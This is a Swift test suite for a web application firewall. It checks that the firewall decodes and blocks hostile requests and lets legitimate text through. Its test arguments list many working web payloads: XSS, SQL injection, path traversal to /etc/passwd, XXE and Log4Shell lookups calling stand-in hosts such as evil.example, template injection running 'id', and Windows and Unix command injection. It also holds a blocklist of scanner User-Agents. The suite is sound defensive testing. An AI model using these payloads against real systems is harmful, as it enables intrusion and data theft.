import Foundation
import Testing

@testable import WAFKit

/// The managed WAF's decoding layers, normaliser and scoring, kind by kind (issue 31's faults),
/// each with more than the one example given.
@Suite("Managed WAF decoding and scoring")
struct WAFDecodingTests {
    static let browser: [(String, String)] = [("user-agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0"), ("host", "shop.example")]

    static func post(_ body: String, type: String, sensitivity: String = "medium") -> ManagedWAF.Verdict {
        let waf = ManagedWAF(sensitivity: sensitivity)
        let head = waf.inspect(method: "POST", target: "/submit", headers: browser + [("content-type", type)])
        return waf.inspectBody(Array(body.utf8), contentType: type, adding: head)
    }

    static func get(_ target: String, headers: [(String, String)] = browser, sensitivity: String = "medium") -> ManagedWAF.Verdict {
        ManagedWAF(sensitivity: sensitivity).inspect(method: "GET", target: target, headers: headers)
    }

    @Test(
        "JSON bodies are read after their string escapes",
        arguments: [
            #"{"q":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#,
            #"{"id":"1\u0027 OR \u00271\u0027=\u00271"}"#,
            #"{"file":"..\/..\/..\/etc\/passwd"}"#,
            #"{"cmd":"\u003b cat /etc/passwd"}"#,
            #"{"a":{"b":["x","\u0024{jndi:ldap://x/a}"]}}"#,
            #"{"name":"\ud83d\ude00 \u003csvg onload=alert(1)\u003e"}"#,
        ])
    func json(body: String) {
        #expect(Self.post(body, type: "application/json").blocked, "\(body)")
        #expect(Self.post(body, type: "application/vnd.api+json; charset=utf-8").blocked)
    }

    @Test("multipart parts are read one by one, after their own transfer encoding and type")
    func multipart() {
        func form(_ parts: [(headers: String, body: String)]) -> String {
            parts.map { "--XyZ\r\n\($0.headers)\r\n\r\n\($0.body)\r\n" }.joined() + "--XyZ--\r\n"
        }
        let type = "multipart/form-data; boundary=XyZ"
        let attack = "<script>alert(document.cookie)</script>"
        let base64 = Data(attack.utf8).base64EncodedString()
        #expect(Self.post(form([("Content-Disposition: form-data; name=\"c\"", attack)]), type: type).blocked)
        #expect(
            Self.post(form([("Content-Disposition: form-data; name=\"c\"\r\nContent-Transfer-Encoding: base64", base64)]), type: type)
                .blocked)
        #expect(
            Self.post(
                form([
                    (
                        "Content-Disposition: form-data; name=\"c\"\r\nContent-Transfer-Encoding: quoted-printable",
                        "=3Cscript=3Ealert(1)=3C/script=3E"
                    )
                ]),
                type: type
            ).blocked)
        #expect(
            Self.post(
                form([("Content-Disposition: form-data; name=\"j\"\r\nContent-Type: application/json", #"{"x":"\u003cscript\u003e"}"#)]),
                type: type
            )
            .blocked)
        #expect(Self.post(form([("Content-Disposition: form-data; name=\"f\"; filename=\"../../etc/passwd\"", "x")]), type: type).blocked)
        // Legitimate: a sentence ending in a quote before the next boundary, a binary upload.
        #expect(
            !Self.post(
                form([
                    ("Content-Disposition: form-data; name=\"q\"", #"Set the parameter "hl=fr""#),
                    ("Content-Disposition: form-data; name=\"n\"", "2"),
                ]), type: type
            ).blocked)
        #expect(
            !Self.post(
                form([("Content-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\nContent-Type: image/png", "\u{89}PNG' OR 1=1 --")]
                ), type: type
            ).blocked)
    }

    @Test("XML: entities and CDATA are read as text; external entities are refused")
    func xml() {
        #expect(Self.post("<a><![CDATA[<script>alert(1)</script>]]></a>", type: "application/xml").blocked)
        #expect(Self.post("<a>&lt;script&gt;alert(1)&lt;/script&gt;</a>", type: "text/xml").blocked)
        #expect(
            Self.post(#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>"#, type: "application/xml")
                .blocked)
        #expect(
            Self.post(#"<!DOCTYPE r [<!ENTITY % p SYSTEM "http://198.51.100.1/x.dtd"> %p;]><r/>"#, type: "application/soap+xml").blocked)
        #expect(!Self.post("<order><item>Blue shirt</item><qty>2</qty></order>", type: "application/xml").blocked)
    }

    @Test("percent-encoding (also double), HTML entities, + in forms and overlong UTF-8 are undone")
    func layers() {
        #expect(Self.get("/?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E").blocked)
        #expect(
            Self.post("comment=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B/script%26gt%3B", type: "application/x-www-form-urlencoded").blocked)
        #expect(Self.post("q=1+union+select+password+from+users", type: "application/x-www-form-urlencoded").blocked)
        #expect(Self.get("/?f=%C0%AE%C0%AE%C0%AF%C0%AE%C0%AE%C0%AFetc%C0%AFpasswd").blocked)
        #expect(Self.get("/?f=%E0%80%AE%E0%80%AE%E0%80%AFetc%E0%80%AFpasswd").blocked)
    }

    @Test(
        "MySQL's executable comments keep their content; other comments are whitespace",
        arguments: [
            "/?id=1%20/*!UNION*/%20/*!SELECT*/%20password%20FROM%20users",
            "/?id=1%20/*!50000UNION*/%20/*!50000SELECT*/%20password,1%20FROM%20users",
            "/?id=1/*!union*//*!all*//*!select*/1,2",
            "/?id=1%20UNION/**/SELECT/**/password/**/FROM/**/users",
        ])
    func executableComments(target: String) {
        #expect(Self.get(target).blocked, "\(target)")
        #expect(ManagedWAF.normalize("/*!50000union*/ /*!select*/", form: false).contains("union select"))
    }

    @Test("one request, one score: the head's findings and the body's add up; a body is not scored as if headerless")
    func oneScore() {
        // At high, a missing User-Agent is a notice (2) on the head only: a legitimate form body
        // from a browser gains nothing from it.
        let waf = ManagedWAF(sensitivity: "high")
        let head = waf.inspect(method: "POST", target: "/c", headers: Self.browser)
        #expect(head.score == 0)
        #expect(!waf.inspectBody(Array("comment=I agree with the select committee".utf8), contentType: nil, adding: head).blocked)
        // A warning (3) in the head and one in the body block together (3 + 3 ≥ 5), neither alone.
        let headWarning = waf.inspect(method: "POST", target: "/c?u=http://example.com/", headers: Self.browser)
        #expect(headWarning.score == ManagedWAF.warning && !headWarning.blocked)
        let bodyWarning = waf.inspectBody(Array("token=0x41424344454647484950".utf8), contentType: nil, adding: ManagedWAF.Verdict())
        #expect(bodyWarning.score == ManagedWAF.warning && !bodyWarning.blocked)
        #expect(waf.inspectBody(Array("token=0x41424344454647484950".utf8), contentType: nil, adding: headWarning).blocked)
    }

    @Test(
        "families that had no coverage",
        arguments: [
            // CR/LF in the path and arguments (response splitting).
            "/%0d%0aSet-Cookie:%20crlf=injection", "/%0aSet-Cookie:crlf=1", "/?next=%0d%0aLocation:%20http://x.example",
            "/a%0d%0a%0d%0a%3Cscript%3E%0d%0aContent-Type:text/html",
            // Mail protocol injection.
            "/?mailbox=INBOX%0d%0aV100%20CAPABILITY%0d%0aV101%20FETCH%204791",
            "/?to=a@example.com%0d%0aRCPT%20TO:%3Cvictim@example.com%3E", "/?s=x%0d%0aMAIL%20FROM:%3Ca@b.c%3E",
            // Server-side template injection.
            "/?name=%7B%7B7*7%7D%7D", "/?name=%24%7B7*7%7D", "/?n=%7B%7B''.__class__.__mro__[1].__subclasses__()%7D%7D",
            "/?n=%3C%23assign%20ex=%22freemarker.template.utility.Execute%22?new()%3E",
            "/?n=%7B%7B_self.env.registerUndefinedFilterCallback(%22exec%22)%7D%7D",
            "/?n=%3C%25=%20system(%22id%22)%20%25%3E", "/?n=%23%7B7*7%7D", "/?n=%24%7BT(java.lang.Runtime).getRuntime().exec('id')%7D",
            // JavaScript call forms.
            "/?q=(alert)(1)", "/?q=alert%601%60", "/?q=document%5B%22cookie%22%5D", "/?q=window%5B'alert'%5D(1)", "/?q=alert.call(null,1)",
            "/?q=%5B%5D.constructor.constructor('alert(1)')()", "/?q=top%5B%22al%22%2B%22ert%22%5D(1)",
            // Windows shell.
            "/?ip=127.0.0.1%20%7C%20set%20/a%201337", "/?ip=1%26%20dir%20c:%5C", "/?f=x%7C%20type%20%25windir%25%5Cwin.ini",
            "/?ip=1%20%7C%20net%20user", "/?ip=1%26%26whoami", "/?c=1%7Ccmd%20/c%20calc",
            // LDAP filters.
            "/?user=*)(uid=*))(%7C(uid=*", "/?user=admin)(%7C(password=*)", "/?u=*)(objectClass=*", "/?u=x)(%26(objectclass=*)",
            "/?u=admin*)((%7Cuserpassword=*)", "/?u=admin))(%7C(%7C",
            // From the benchmark's attack corpus, once missed.
            "/?q=%27%20or%20true--", "/?q=1%27%7C%7C%27asd%27%7C%7C%27", "/?q=admin%27%2F*", "/?q=%20HAVING%201%3D1",
            "/?q=%20ORDER%20BY%2031337--",
            "/?q=(0,alert)(1)", "/?q=alert%3F.(1)", "/?q=%5B1%5D.find(alert)", "/?q=x%3Dalert,x(1)",
            "/?q=C:%5Cinetpub%5Cwwwroot%5Cglobal.asa",
            "/?f=http://evil.example/shell.txt", "/?f=//evil.example/shell.txt", "/?f=/var/log/nginx/access.log",
            "/?ip=;netstat%20-a;", "/?ip=%7C/bin/ls%20-al", "/?ip=%0Aid%0A", "/?ip=;/???/??t%20/???/p??s??",
            "/?n=%7B%7B7*'7'%7D%7D", "/?n=%7B%7Bconfig.items()%7D%7D", "/?n=%24%7B%40phpinfo()%7D",
            "/?q=%0d%0aAccess-Control-Allow-Origin:%20*", "/?q=%0aHeader-Test:BLATRUC", "/?q=%E5%98%8A%E5%98%8DSet-Cookie:crlf=injection",
            "/?to=a@example.com%0d%0aBcc:%20everyone@evil.example", "/?q=%0d%0aVRFY%20root", "/?q=%0d%0aAUTH%20LOGIN",
            "/?q=%24%7Bj%24%7Bk8s:k5:-ND%7Di%24%7Bsd:k5:-:%7Dldap://evil.example/a%7D", "/?q=()%7B%20:;%20%7D;%20/bin/id",
            "/?u=true,%20%24where:%20'1%20%3D%3D%201'", "/?u%5B%24ne%5D=1", "/?q=%27%20%7C%7C%20%27a%27%3D%3D%27a",
            "/?c=phpinfo();", "/?c=eval(%24_GET%5B'code'%5D);", "/?c=exec('whoami',%20%24out);",
        ])
    func families(target: String) {
        #expect(Self.get(target).blocked, "\(target)")
    }

    @Test(
        "scanners announce themselves in the User-Agent",
        arguments: [
            "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.0 (compatible; Nuclei - Open-source project)", "Wfuzz/3.1.0",
            "Mozilla/5.0 (Windows NT 10.0) OWASP ZAP/2.14", "Fuzz Faster U Fool v2.1.0", "Mozilla/5.00 (Nikto/2.5.0)", "masscan/1.3",
            "Hydra",
        ])
    func scanners(userAgent: String) {
        #expect(Self.get("/", headers: [("user-agent", userAgent)]).blocked, "\(userAgent)")
    }

    @Test(
        "legitimate text passes at the default sensitivity, in a query, a form and JSON",
        arguments: [
            "JavaScript: Basics of JavaScript Language", "Please select the best option from the list", "O'Reilly Media",
            "1=1 is a tautology", #"Set "hl=fr" to get French results"#, "The (alert) box", "Tom & Jerry; set the table",
            "Use {{ user.name }} in the template", "Call me at 555-0100 or mail a@example.com", "C'est l'été, n'est-ce pas ?",
            "Wie geht's? Grüße aus München", "日本語のテキストです", "Привет, как дела?", "if (x > 1) { return y; }",
            "Directory listing: dir /s shows files", "My IMAP login works", "objectClass is an LDAP attribute",
            "SELECT the right plan for your team", "<p><strong>Bold</strong> text</p>",
            // From the benchmark's legitimate corpus (scripts/bench/waf), once blocked.
            "The museum is open from 10 a.m. to 6 p.m. (closed on Mondays); admission is free.", #"he said "yes" or "no""#,
            "document.cookie explained for beginners", "We call alert() only in the demo; in production use a toast.",
            "SELECT * FROM products LIMIT 10 OFFSET 20;", "Drop table reservations for Friday at 8?", ##"the "#1 bestseller" list"##,
            "Note: `DROP TABLE IF EXISTS staging_orders;` is run before each import.",
            #"for f in *.jpg; do convert "$f" -resize 50% "small/$f"; done"#, "Keep it up :)", "Dyson V15 Detect Absolute (2023)",
            "```sql\nSELECT name, email FROM customers WHERE country = 'DE' ORDER BY name;\n```",
            "const m = /a(b)/.exec('xab');", "Run `ls -la` in your terminal.", "```python\nprint('hi')\n```",
            "export default function App() {\n  return null;\n}", "ssh -i ~/.ssh/id_ed25519 deploy@server.example.com",
            "../README.md", "On Windows, open cmd.exe and type `ipconfig /all`.",
        ])
    func legitimate(text: String) {
        let encoded = text.addingPercentEncoding(withAllowedCharacters: .alphanumerics)!
        #expect(!Self.get("/search?q=" + encoded).blocked, "query: \(text)")
        #expect(!Self.post("comment=" + encoded, type: "application/x-www-form-urlencoded").blocked, "form: \(text)")
        let json = String(data: try! JSONSerialization.data(withJSONObject: ["comment": text]), encoding: .utf8)!
        #expect(!Self.post(json, type: "application/json").blocked, "json: \(text)")
    }
}
